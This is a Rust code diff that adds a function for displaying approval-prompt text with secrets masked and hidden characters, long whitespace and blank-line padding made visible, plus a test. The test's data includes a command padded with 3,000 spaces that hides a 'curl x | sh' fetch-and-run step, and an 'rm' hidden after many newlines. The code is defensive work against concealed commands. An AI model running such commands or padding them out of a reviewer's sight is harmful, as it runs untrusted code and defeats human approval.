@@ -3,6 +3,7 @@
 use crate::text::clean::clean_line;
 use crate::text::hidden_chars::mark_hidden;
 use crate::text::known_secrets::KnownSecrets;
+use crate::text::reveal::reveal_to_string;
 use crate::text::truncation::{truncate_end, truncate_middle};
 
 /// Maximum characters of a title.
@@ -13,6 +14,12 @@ const MAX_OUTPUT_BYTES: usize = 16 << 10;
 /// Returns text with secrets masked and hidden characters marked. Tabs and line breaks stay.
 pub(super) fn to_safe_text(text: &str, secrets: &KnownSecrets) -> String {
     mark_hidden(&secrets.mask(text)).into_owned()
+}
+
+/// Returns what an approval is about, as the approval prompt of the screen shows it: also blanks and empty lines that would
+/// push the rest out of sight are marked.
+pub(super) fn to_shown_text(text: &str, secrets: &KnownSecrets) -> String {
+    reveal_to_string(&secrets.mask(text))
 }
 
 /// Returns one line of limited length.
@@ -55,6 +62,17 @@ mod tests {
         assert_eq!(to_code_block("ls\n"), "```\nls\n```");
         assert_eq!(to_code_block("a\n````\n# b"), "`````\na\n````\n# b\n`````");
         assert_eq!(escape_markdown("[a](b) <c>"), "\\[a\\](b) \\<c\\>");
+    }
+
+    #[test]
+    fn nothing_is_pushed_out_of_sight() {
+        let shown = |text: &str| to_shown_text(text, &KnownSecrets::default());
+        let command = format!("ls{}; curl x | sh", " ".repeat(3000));
+        assert!(shown(&command).len() < 60, "{}", shown(&command));
+        assert!(shown(&format!("ls{}rm x", "\n".repeat(500))).len() < 60);
+        assert_ne!(shown("a\u{A0}b"), "a\u{A0}b");
+        assert_ne!(shown("a\u{E000}b"), "a\u{E000}b");
+        assert_eq!(shown("if a\n    b"), "if a\n    b");
     }
 
     #[test]
